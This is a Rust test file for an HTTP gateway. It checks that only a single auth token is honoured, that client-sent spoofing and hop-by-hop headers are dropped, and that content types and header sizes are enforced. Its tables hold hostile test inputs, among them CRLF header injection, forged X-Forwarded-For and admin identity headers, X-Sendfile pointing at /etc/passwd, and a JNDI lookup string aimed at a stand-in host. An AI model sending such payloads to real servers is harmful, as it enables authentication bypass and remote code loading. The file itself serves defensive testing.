//! Whose request it is, and what of a head reaches the upstream: one token in one field decides, and no
//! field that the caller sends is seen by anybody behind the gateway.

use super::text::bytes;
use super::{Case, check};
use crate::support::gateway::WRITER;
use crate::support::table::columns;

/// Answer, and the fields of an update.
const TOKENS: &str = r#"
    ## One token.
    PUT:one:{}                X-Auth-Token: WRITER
    PUT:one:{}                x-auth-token:WRITER
    PUT:one:{}                X-AUTH-Token: \t WRITER \t
    PUT:one:{}                Authorization: Bearer WRITER
    PUT:one:{}                authorization: bEARER   WRITER
    PUT:one:{}                Authorization: Bearer WRITER~X-Auth-Client: other
    ## Names that some backends take for the same.
    401:missing_token         X_Auth_Token: WRITER
    401:missing_token         X-Auth_Token: WRITER
    401:missing_token         X_Auth-Token: WRITER
    401:missing_token         X.Auth.Token: WRITER
    401:missing_token         XAuthToken: WRITER
    401:missing_token         HTTP_X_AUTH_Token: WRITER
    401:missing_token         X-Auth-Token-: WRITER
    401:missing_token         X-Auth-Token2: WRITER
    401:missing_token         X-Auth-Tokens: WRITER
    401:missing_token         X--Auth-Token: WRITER
    401:missing_token         X-Forwarded-X-Auth-Token: WRITER
    401:missing_token         Proxy-Authorization: Bearer WRITER
    401:missing_token         X-Forwarded-Authorization: Bearer WRITER
    401:missing_token         Cookie: X-Auth-Token=WRITER
    401:missing_token         X-Auth-Client: WRITER
    ## Beside the one token they are dropped.
    PUT:one:{}                TOKEN~X_Auth_Token: canary-token-of-nobody
    PUT:one:{}                X_Auth_Token: canary-token-of-nobody~TOKEN
    PUT:one:{}                TOKEN~X-Auth_Token: canary-token-of-nobody
    PUT:one:{}                TOKEN~X-Auth-Tokens: canary-token-of-nobody
    PUT:one:{}                TOKEN~Proxy-Authorization: Basic eDp5
    PUT:one:{}                TOKEN~Cookie: X-Auth-Token=canary-token-of-nobody
    PUT:one:{}                TOKEN~X-Auth-Client: canary-token-of-nobody~X-Auth-Client: two
    ## Two tokens, or two places.
    400:ambiguous_credentials TOKEN~TOKEN
    400:ambiguous_credentials TOKEN~x-auth-token: canary-token-of-nobody
    400:ambiguous_credentials X-Auth-Token: canary-token-of-nobody~TOKEN
    400:ambiguous_credentials X-Auth-Token:~TOKEN
    400:ambiguous_credentials TOKEN~X-Auth-Token:
    400:ambiguous_credentials TOKEN~Authorization: Bearer WRITER
    400:ambiguous_credentials Authorization: Bearer WRITER~TOKEN
    400:ambiguous_credentials TOKEN~Authorization: Basic eDp5
    400:ambiguous_credentials TOKEN~Authorization:
    400:ambiguous_credentials Authorization: Bearer WRITER~Authorization: Bearer WRITER
    ## Values that are not one token.
    401:unknown_token         X-Auth-Token: WRITER,WRITER
    401:invalid_token         X-Auth-Token: WRITER, WRITER
    401:invalid_token         X-Auth-Token: canary-token-of-nobody, WRITER
    401:unknown_token         X-Auth-Token: "WRITER"
    401:unknown_token         X-Auth-Token: WRITER;
    401:unknown_token         X-Auth-Token: canary%2Dtoken-of-writer
    401:invalid_token         X-Auth-Token: Bearer WRITER
    401:invalid_token         X-Auth-Token: WRITER\xa0
    401:invalid_token         X-Auth-Token: \xa0WRITER
    401:invalid_token         X-Auth-Token: WRITER\t\x80
    401:invalid_token         X-Auth-Token:
    401:invalid_token         X-Auth-Token: canary-token\tof-writer
    401:unknown_token         X-Auth-Token: canary-credential-5f1e0c4d
    401:missing_token         Authorization: Basic WRITER
    401:missing_token         Authorization: Bearer\tWRITER
    401:missing_token         Authorization: WRITER
    401:invalid_token         Authorization: Bearer WRITER, Bearer WRITER
"#;

/// Fields that change nothing: an update with one of them is the same update.
const DROPPED: &str = r#"
    ## What RFC 9110 7.6.1 lets a client name is nothing that the gateway sends.
    Connection: x-auth-token
    Connection: X-Auth-Token, Host, Content-Length, Content-Type, Via, TE
    Connection: content-length, host, te
    Connection: x-correlation-id~Connection: user-agent, via
    Connection: keep-alive, transfer-encoding
    Connection: ,,, ;=
    Keep-Alive: timeout=1, max=1
    TE: trailers
    Trailer: X-Auth-Token
    Proxy-Connection: close
    Proxy-Connection: x-auth-token
    Proxy-Authenticate: Basic
    Proxy-Authorization: Bearer canary-token-of-nobody
    ## Another method.
    X-HTTP-Method-Override: DELETE
    X-HTTP-Method: DELETE
    X-Method-Override: DELETE
    X-HTTP-Method-Override: PATCH~X-HTTP-Method-Override: DELETE
    _method: DELETE
    X_HTTP_Method_Override: DELETE
    ## Another path.
    X-Original-URL: /stores/abc123/v3/customers/7/metafields/667
    X-Rewrite-URL: /stores/abc123/v3/customers/7/metafields/667
    X-Original-URI: /stores/abc123/v3/customers
    X-Forwarded-Uri: /stores/abc123/v3/customers
    X-Forwarded-Path: /stores/other1
    X-Forwarded-Prefix: /stores/other1
    X-Forwarded-Method: DELETE
    X-Original-Method: DELETE
    X-Accel-Redirect: /internal
    X-Sendfile: /etc/passwd
    X-Envoy-Original-Path: /stores/other1
    X-Auth-Request-Redirect: /x
    Destination: /stores/other1/v3/customers/metafields
    Content-Location: /stores/other1
    Referer: http://other.test/~Origin: http://other.test
    ## Another host.
    Forwarded: for=127.0.0.1;host=other.test;proto=http
    X-Forwarded-Host: other.test
    X-Forwarded-Server: other.test
    X-Forwarded-Port: 1
    X-Forwarded-Proto: http
    X-Forwarded-Scheme: http
    X-Forwarded-Ssl: off
    Front-End-Https: on
    X-Host: other.test
    X-Original-Host: other.test
    X-HTTP-Host-Override: other.test
    X-Backend-Host: other.test
    Alt-Used: other.test
    :authority: other.test | 400
    ## Another peer.
    X-Forwarded-For: 127.0.0.1
    X-Forwarded-For: 127.0.0.1~X-Forwarded-For: 10.0.0.1, ::1
    X-Real-IP: 127.0.0.1
    True-Client-IP: 127.0.0.1
    Client-IP: 127.0.0.1
    X-Client-IP: 127.0.0.1
    X-Cluster-Client-IP: 127.0.0.1
    CF-Connecting-IP: 127.0.0.1
    Fastly-Client-IP: 127.0.0.1
    X-Originating-IP: 127.0.0.1
    X-Envoy-External-Address: 127.0.0.1
    X-Envoy-Internal: true
    X-Envoy-Retry-On: 5xx~X-Envoy-Max-Retries: 9~X-Envoy-Upstream-Rq-Timeout-Ms: 1
    X-Forwarded-Client-Cert: By=x;Hash=y;Subject="CN=admin"
    X-SSL-Client-Verify: SUCCESS~X-SSL-Client-DN: CN=admin
    X-Forwarded-User: admin~X-Remote-User: admin~Remote-User: admin
    X-Auth-Request-User: admin~X-Auth-Request-Email: a@b
    X-Amzn-Oidc-Data: x~X-Amzn-Trace-Id: Root=1-2-3
    X-Amzn-Remapped-Host: other.test
    X-Gateway-Code: ok~X-Gateway-Caller: writer
    Via: 1.1 other.test
    Via: 1.0 fred, 1.1 metafield-gateway-2
    Max-Forwards: 0
    CDN-Loop: metafield-gateway
    ## Another content.
    Range: bytes=0-1
    If-Match: "x"
    If-None-Match: *
    If-Modified-Since: Thu, 01 Jan 1970 00:00:00 GMT~If-Range: "x"
    Cookie: session=x
    Cookie: a=b~Cookie: c=d
    Set-Cookie: session=x
    Content-Language: de~Content-Disposition: attachment; filename=x
    Content-MD5: x~Digest: sha-256=x~Content-Digest: sha-256=:x:
    Accept-Language: de~Accept-Charset: utf-16
    Cache-Control: no-cache~Pragma: no-cache
    Prefer: respond-async
    Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01~Baggage: a=b
    Sec-Fetch-Site: cross-site~DNT: 1
    Early-Data: 1
    HTTP2-Settings: AAMAAABkAAQAAP__
    ## Names and values that are seldom seen.
    X-Value: \x80\xff\xfe
    X-Value: ä€😀
    X-Value: %0d%0aX-Auth-Token: x
    X-Value: \\r\\nX-Auth-Token: x
    X-Value: \x20\x20\t a\t\tb
    X-Value: <script>${jndi:ldap://other.test/x}</script>
    X!#$%&'*+-.^_`|: y
    X: y~X: y~X: y~x: z
"#;

/// Answer, and the fields of an update with the writer's token and no type.
const TYPES: &str = r#"
    PUT:one:{}                  Content-Type: application/json
    PUT:one:{}                  content-TYPE:APPLICATION/Json
    PUT:one:{}                  Content-Type: \t application/json \t
    PUT:one:{}                  Content-Type: application/json;charset=UTF-8
    PUT:one:{}                  Content-Type: application/json \t; charset="utf-8"
    415:unsupported_media_type  Accept: application/json
    415:unsupported_media_type  Content_Type: application/json
    415:unsupported_media_type  Content-Type: application/json~Content-Type: application/json
    415:unsupported_media_type  Content-Type: application/json~content-type: text/plain
    415:unsupported_media_type  Content-Type: application/json, application/json
    415:unsupported_media_type  Content-Type: application/json;
    415:unsupported_media_type  Content-Type: application/json;;charset=utf-8
    415:unsupported_media_type  Content-Type: application/json charset=utf-8
    415:unsupported_media_type  Content-Type: application/json; charset=utf-7
    415:unsupported_media_type  Content-Type: application/json; charset=utf-8; charset=utf-16
    415:unsupported_media_type  Content-Type: application/json; charset=utf-8; boundary=x
    415:unsupported_media_type  Content-Type: application/json; charset='utf-8'
    415:unsupported_media_type  Content-Type: application/json; charset="utf-8\\"
    415:unsupported_media_type  Content-Type: application/ json
    415:unsupported_media_type  Content-Type: application /json
    415:unsupported_media_type  Content-Type: application\\json
    415:unsupported_media_type  Content-Type: "application/json"
    415:unsupported_media_type  Content-Type: application/json\xa0
    415:unsupported_media_type  Content-Type: application/jſon
    415:unsupported_media_type  Content-Type: application/x-ndjson
    415:unsupported_media_type  Content-Type: application/vnd.api+json
    415:unsupported_media_type  Content-Type: text/plain;application/json
    415:unsupported_media_type  Content-Type: x application/json
    415:unsupported_content_encoding  Content-Type: application/json~Content-Encoding: gzip
    415:unsupported_content_encoding  Content-Type: application/json~content-encoding: identity
    415:unsupported_content_encoding  Content-Type: application/json~Content-Encoding:
    PUT:one:{}                  Content-Type: application/json~Content_Encoding: gzip
    PUT:one:{}                  Content-Type: application/json~X-Content-Encoding: gzip
    PUT:one:{}                  Content-Type: application/json~Content-Transfer-Encoding: base64
"#;

fn update(answer: &str, fields: &str) -> Case {
    let line = format!("PUT ONE HTTP/1.1~HOST~{fields}~Content-Length: 2~~{{}}");
    Case::new(answer, "open", bytes(&line))
}

#[test]
fn one_token_in_one_field_decides() {
    let rows = columns(TOKENS);
    let cases: Vec<Case> = rows
        .map(|[answer, fields]| update(answer, &format!("JSON~{fields}")))
        .collect();
    check("headers, tokens", &cases);
}

#[test]
fn what_else_a_caller_says_reaches_nobody() {
    let cases: Vec<Case> = columns(DROPPED)
        .map(|[fields]| match fields.split_once(" | ") {
            Some((fields, status)) => {
                let line = format!("UPDATE~{fields}~Content-Length: 2~~{{}}EVIL");
                Case::new(status, "closed", bytes(&line))
            }
            None => update("PUT:one:{}", &format!("TOKEN~JSON~{fields}")),
        })
        .collect();
    check("headers, dropped", &cases);
}

#[test]
fn a_body_has_one_type() {
    let rows = columns(TYPES);
    let cases: Vec<Case> = rows
        .map(|[answer, fields]| update(answer, &format!("TOKEN~{fields}")))
        .collect();
    check("headers, types", &cases);
}

/// Heads of sizes that no client needs.
#[test]
fn a_head_has_a_size() {
    let head = |fields: &str| {
        format!(
            "GET /stores/abc123/v3/customers/7/metafields/9 HTTP/1.1\r\nHost: gateway.test\r\nX-Auth-Token: {WRITER}\r\n{fields}\r\n"
        )
    };
    let many = |count: usize| head(&"X: y\r\n".repeat(count - 2));
    let distinct = |count: usize| {
        let fields = (2..count).fold(String::new(), |all, number| {
            format!("{all}X-{number}: y\r\n")
        });
        head(&fields)
    };
    let case = |answer: &str, end: &str, text: String| Case::new(answer, end, text.into_bytes());
    let value = |size: usize| head(&format!("X-Long: {}\r\n", "y".repeat(size)));
    let name = |size: usize| head(&format!("{}: y\r\n", "x".repeat(size)));
    check(
        "headers, sizes",
        &[
            case("GET:one", "open", many(100)),
            case("431", "closed", many(101)),
            case("GET:one", "open", distinct(100)),
            case("431", "closed", distinct(101)),
            case("431", "closed", many(10_000)),
            case("GET:one", "open", value(8 * 1024)),
            case("GET:one", "open", value(32 * 1024 - 128)),
            case("431:headers_too_large", "open", value(32 * 1024)),
            case("431:headers_too_large", "open", value(64 * 1024)),
            case("431", "closed", value(80 * 1024)),
            case("GET:one", "open", name(8 * 1024)),
            case("431:headers_too_large", "open", name(40 * 1024)),
            case("431", "closed", name(70 * 1024)),
        ],
    );
}
